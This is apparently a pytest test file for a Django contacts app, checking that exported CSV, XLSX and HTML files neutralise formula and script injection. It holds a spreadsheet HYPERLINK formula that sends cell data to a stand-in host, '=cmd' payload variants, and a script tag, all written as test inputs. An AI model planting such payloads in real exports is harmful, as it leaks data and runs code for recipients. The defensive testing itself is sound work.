"""Whatever people typed, no file that leaves makes a spreadsheet run it, or a browser."""

import csv
from datetime import date
from io import BytesIO, StringIO

import openpyxl
import pytest
from django.contrib.contenttypes.models import ContentType

from contacts.imports import refused_rows_csv, run_import
from contacts.imports.resources import ContactResource
from contacts.models import Contact
from contacts.parsing import defuse
from outreach.accounts.models import AuditEntry
from outreach.visits.models import VisitReport
from tests.imports.conftest import make_csv, make_import, make_row
from tests.statistics.history import report_visit, visit_of

EVIL = '=HYPERLINK("http://elsewhere.example?"&A1)'
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "  =", "＝"]
OCTOBER = {"campaign": "eastside-fall", "since": "2026-10-01", "until": "2026-10-31"}


def cells_of(content: bytes) -> list[str]:
    """Return every text in a CSV file or a workbook; a formula in a workbook keeps its `=`."""
    if content.startswith(b"PK"):
        book = openpyxl.load_workbook(BytesIO(content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells}.isdisjoint("f")
        return [cell.value for cell in cells if isinstance(cell.value, str)]
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]


def risky(content: bytes) -> list[str]:
    """Return the cells that a spreadsheet would run. Plain signed numbers are not run."""
    cells = cells_of(content)
    assert any("elsewhere.example" in cell for cell in cells), "what was typed is not in it"
    return [cell for cell in cells if defuse(cell) != cell]


@pytest.mark.parametrize("start", STARTS)
def test_the_refused_rows_run_nothing(start, office):
    evil = f"{start}cmd elsewhere.example"
    nameless = make_row(first_name="", last_name="", street=evil, note=evil) | {evil: evil}
    leads = make_import(make_csv(nameless), office=office)
    run_import(leads)
    assert leads.counts["refused"] == 1
    assert risky(refused_rows_csv(leads)) == []


@pytest.mark.parametrize("start", STARTS)
def test_the_contacts_run_nothing(start, contact):
    """Not even what came into the database past the forms."""
    evil = f"{start}cmd elsewhere.example"
    Contact.objects.update(given_name=evil, note=evil)
    file = ContactResource().export(Contact.objects.all()).csv
    assert risky(file.encode()) == []


def test_the_audit_runs_nothing(auditor, contact, signed_in):
    AuditEntry.objects.create(
        content_type=ContentType.objects.get_for_model(Contact),
        object_repr=EVIL,
        action=AuditEntry.Action.ACCESS,
        additional_data={"deed": EVIL, "why": EVIL, "contacts": [EVIL]},
    )
    response = signed_in(auditor).post("/audit/export/")
    assert risky(response.getvalue()) == []


@pytest.fixture
def typed(team, contact):
    """A visit of which everything that people type would run."""
    for record in (team, team.office, team.campaign):
        record.name = f"{EVIL} elsewhere.example"
        record.save(update_fields=["name"])
    visit = visit_of(team, contact)
    visit.day = date(2026, 10, 5)
    visit.save(update_fields=["day"])
    report_visit(visit, "CONTACT_PERSON", response="DECLINED", note=EVIL)
    assert VisitReport.objects.count() == 1


@pytest.mark.usefixtures("typed")
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_figures_run_nothing(kind, manager, signed_in):
    response = signed_in(manager).post("/statistics/export/", OCTOBER | {"format": kind})
    assert response.status_code == 200
    assert risky(response.content) == []


@pytest.mark.usefixtures("typed")
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_visits_hold_nothing_that_was_typed(kind, manager, signed_in):
    client = signed_in(manager)
    made = client.post("/statistics/export/visits/", OCTOBER | {"format": kind}, follow=True)
    file = client.get(f"{made.redirect_chain[-1][0]}file/").getvalue()
    assert "CONTACT_PERSON" in cells_of(file)
    assert not [cell for cell in cells_of(file) if "elsewhere.example" in cell]


def test_the_file_about_a_person_runs_nothing_in_a_browser(world, administrator, signed_in):
    Contact.objects.filter(code=world["contacts:code"]).update(note="<script>x()</script>")
    address = f"/privacy/requests/{world['privacy:person_file:code']}/file/"
    response = signed_in(administrator).post(address, {"kind": "html"})
    page = response.getvalue().decode()
    assert "&lt;script&gt;x()" in page
    assert "<script" not in page
